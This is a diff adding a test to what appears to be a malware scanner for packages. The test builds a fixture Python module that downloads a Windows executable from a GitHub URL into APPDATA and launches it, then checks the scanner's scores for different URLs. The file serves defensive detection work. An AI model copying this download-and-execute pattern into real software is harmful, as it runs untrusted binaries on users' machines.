@@ -598,3 +598,25 @@ test('an archive that lies beside the code under a password of the code, unpacke
   expect(await inspect('dropper', file('', started))).toEqual([]);
   expect(await inspect('dropper', file(", pwd=b'infected'", "'git'"))).toEqual([]);
 });
+
+test('a Windows program out of the sources of a stranger is told from one of the releases, and from the own one', async () => {
+  const of = (address: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/helper.py': python(
+          'import os, subprocess, urllib.request',
+          'def update():',
+          "    path = os.path.join(os.environ['APPDATA'], 'helper.exe')",
+          `    urllib.request.urlretrieve('${address}', path)`,
+          '    subprocess.Popen(path)',
+        ),
+      }),
+    );
+
+  expect(await of('https://github.com/stranger/tools/raw/main/helper.exe')).toMatchObject([{ score: 10 }]);
+  expect(await of('https://raw.githubusercontent.com/stranger/tools/main/helper.exe')).toMatchObject([{ score: 10 }]);
+  expect(await of('https://github.com/stranger/tools/releases/download/1/helper.exe')).toMatchObject([{ score: 9 }]);
+  expect(await of('https://github.com/example/pkg/raw/main/helper.exe')).toMatchObject([{ score: 9 }]);
+});
